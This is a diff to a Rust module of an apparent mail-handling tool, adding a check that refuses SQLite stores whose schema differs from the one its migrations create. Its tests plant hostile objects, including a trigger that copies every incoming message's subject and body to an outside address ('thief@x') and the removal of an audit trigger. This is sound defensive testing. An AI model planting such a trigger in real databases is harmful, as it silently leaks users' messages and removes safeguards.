@@ -1,9 +1,21 @@
-//! The schema, as a numbered list of migrations.
+//! The schema, as a numbered list of migrations, and the check that a store
+//! holds that schema and nothing else.
 //!
 //! Each migration runs in one transaction that also bumps `user_version`;
 //! the list only grows. Habits (after chatmail's): `STRICT` tables,
 //! `AUTOINCREMENT` where ids must never be reused, new columns
 //! `NOT NULL DEFAULT …`, never a change of a column's meaning.
+//!
+//! [`verify`] never trusts a file's schema: a trigger or view planted in a
+//! store (a doctored backup, a hand edit) would run on every message filed,
+//! e.g. copying reports into the outbox to an outside address.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::OnceLock;
+
+use anyhow::{bail, Context, Result};
+use rusqlite::Connection;
 
 /// Migrations; `MIGRATIONS[i]` takes the schema from version `i` to `i + 1`.
 pub const MIGRATIONS: &[&str] = &[
@@ -177,3 +189,189 @@ CREATE INDEX outbox_released ON outbox (kind, released_at);
 CREATE INDEX outbox_held ON outbox (id) WHERE status = 'held';
 "#,
 ];
+
+/// One object's row in `sqlite_master`, less what SQLite may place freely
+/// (`rootpage`). `sql` is `None` for SQLite's automatic indexes.
+#[derive(Debug, PartialEq, Eq)]
+struct Definition {
+    tbl_name: String,
+    sql: Option<String>,
+}
+
+/// A database's objects, keyed by (type, name).
+type Schema = BTreeMap<(String, String), Definition>;
+
+/// `EXPECTED[v]`: the schema the first `v` migrations produce, built on first
+/// use so that each CLI command pays for it at most once.
+static EXPECTED: [OnceLock<Schema>; MIGRATIONS.len() + 1] =
+    [const { OnceLock::new() }; MIGRATIONS.len() + 1];
+
+/// Every object of `conn`'s main database, SQLite's own included: the same
+/// migrations give the same `sqlite_sequence` and `sqlite_autoindex_*`
+/// rows, and `ALTER TABLE ADD COLUMN` rewrites the `CREATE TABLE` text the
+/// same way on both sides.
+fn schema_of(conn: &Connection) -> rusqlite::Result<Schema> {
+    let mut stmt = conn.prepare("SELECT type, name, tbl_name, sql FROM main.sqlite_master")?;
+    let rows = stmt.query_map([], |r| {
+        Ok((
+            (r.get(0)?, r.get(1)?),
+            Definition {
+                tbl_name: r.get(2)?,
+                sql: r.get(3)?,
+            },
+        ))
+    })?;
+    rows.collect()
+}
+
+/// The schema of `version`, applied to an in-memory database once.
+fn expected(version: usize) -> Result<&'static Schema> {
+    let Some(cell) = EXPECTED.get(version) else {
+        bail!(
+            "schema version {version} is newer than this secdesk knows ({})",
+            MIGRATIONS.len()
+        );
+    };
+    if let Some(schema) = cell.get() {
+        return Ok(schema);
+    }
+    let conn = Connection::open_in_memory().context("opening an in-memory database")?;
+    for (i, sql) in MIGRATIONS.iter().take(version).enumerate() {
+        conn.execute_batch(sql)
+            .with_context(|| format!("applying migration {} in memory", i + 1))?;
+    }
+    let built = schema_of(&conn).context("reading the in-memory schema")?;
+    Ok(cell.get_or_init(|| built))
+}
+
+/// `trigger "leak"`; a type SQLite does not make is quoted too, since the
+/// whole row may come from a doctored file.
+fn describe(kind: &str, name: &str) -> String {
+    match kind {
+        "table" | "index" | "view" | "trigger" => format!("{kind} {name:?}"),
+        other => format!("{other:?} {name:?}"),
+    }
+}
+
+/// Refuses the store `conn` (the file `file`, named in the error) unless its
+/// objects are exactly those the first `version` migrations create: nothing
+/// extra, missing or changed. The error is one line naming every object at
+/// fault.
+pub fn verify(conn: &Connection, version: usize, file: &Path) -> Result<()> {
+    let want = expected(version)?;
+    let have = schema_of(conn)
+        .with_context(|| format!("reading the schema of store {}", file.display()))?;
+    let mut faults = Vec::new();
+    for ((kind, name), def) in &have {
+        match want.get(&(kind.clone(), name.clone())) {
+            None => faults.push(format!(
+                "holds {} that secdesk did not create",
+                describe(kind, name)
+            )),
+            Some(w) if w != def => faults.push(format!(
+                "holds {} that differs from the one secdesk created",
+                describe(kind, name)
+            )),
+            Some(_) => {}
+        }
+    }
+    for (kind, name) in want.keys() {
+        if !have.contains_key(&(kind.clone(), name.clone())) {
+            faults.push(format!(
+                "lacks {} that secdesk created",
+                describe(kind, name)
+            ));
+        }
+    }
+    if faults.is_empty() {
+        return Ok(());
+    }
+    bail!(
+        "store {} {}; refusing to use it",
+        file.display(),
+        faults.join(", ")
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::store::Store;
+
+    /// Opens a fresh store, changes its schema with `sql` behind secdesk's
+    /// back, and returns the error of opening it again.
+    fn reopen_after(sql: &str) -> String {
+        let dir = tempfile::tempdir().unwrap();
+        let (db, data) = (dir.path().join("cases.db"), dir.path().join("data"));
+        drop(Store::open(&db, &data).unwrap());
+        Connection::open(&db).unwrap().execute_batch(sql).unwrap();
+        let e = Store::open(&db, &data).unwrap_err();
+        let e = format!("{e:#}");
+        assert!(e.starts_with(&format!("store {} ", db.display())), "{e}");
+        assert!(
+            e.ends_with("; refusing to use it") && !e.contains('\n'),
+            "{e}"
+        );
+        e
+    }
+
+    #[test]
+    fn refuses_a_schema_secdesk_did_not_make() {
+        let rows = [
+            (
+                "CREATE TRIGGER leak AFTER INSERT ON messages BEGIN
+                 INSERT INTO outbox (kind, dedup_key, message_id, recipients, subject, body,
+                                     next_attempt_at, created_at)
+                 VALUES ('ack', 'leak' || NEW.id, 'leak' || NEW.id || '@x', '[\"thief@x\"]',
+                         NEW.subject, NEW.body_text, NEW.received_at, NEW.received_at);
+                 END;",
+                r#"holds trigger "leak" that secdesk did not create"#,
+            ),
+            (
+                "CREATE VIEW peek AS SELECT body_text FROM messages;",
+                r#"holds view "peek" that secdesk did not create"#,
+            ),
+            (
+                "CREATE TABLE stash (x TEXT);",
+                r#"holds table "stash" that secdesk did not create"#,
+            ),
+            (
+                "ALTER TABLE cases ADD COLUMN forward_to TEXT;",
+                r#"holds table "cases" that differs from the one secdesk created"#,
+            ),
+            (
+                "DROP TRIGGER events_no_delete;",
+                r#"lacks trigger "events_no_delete" that secdesk created"#,
+            ),
+        ];
+        for (sql, want) in rows {
+            let e = reopen_after(sql);
+            assert!(e.contains(want), "{sql}\n{e}");
+        }
+        // Several faults, each named, on one line.
+        let e = reopen_after("CREATE VIEW a AS SELECT 1; CREATE VIEW b AS SELECT 2;");
+        assert!(
+            e.contains(r#"view "a""#) && e.contains(r#"view "b""#),
+            "{e}"
+        );
+    }
+
+    #[test]
+    fn a_clean_store_passes_at_every_version() {
+        for v in 0..=MIGRATIONS.len() {
+            let c = Connection::open_in_memory().unwrap();
+            for sql in &MIGRATIONS[..v] {
+                c.execute_batch(sql).unwrap();
+            }
+            verify(&c, v, Path::new("mem")).unwrap();
+            // Checked against the next version, it lacks that migration.
+            if v < MIGRATIONS.len() {
+                assert!(verify(&c, v + 1, Path::new("mem")).is_err());
+            }
+        }
+        let dir = tempfile::tempdir().unwrap();
+        let db = dir.path().join("cases.db");
+        drop(Store::open(&db, &dir.path().join("data")).unwrap());
+        Store::open(&db, &dir.path().join("data")).unwrap();
+    }
+}
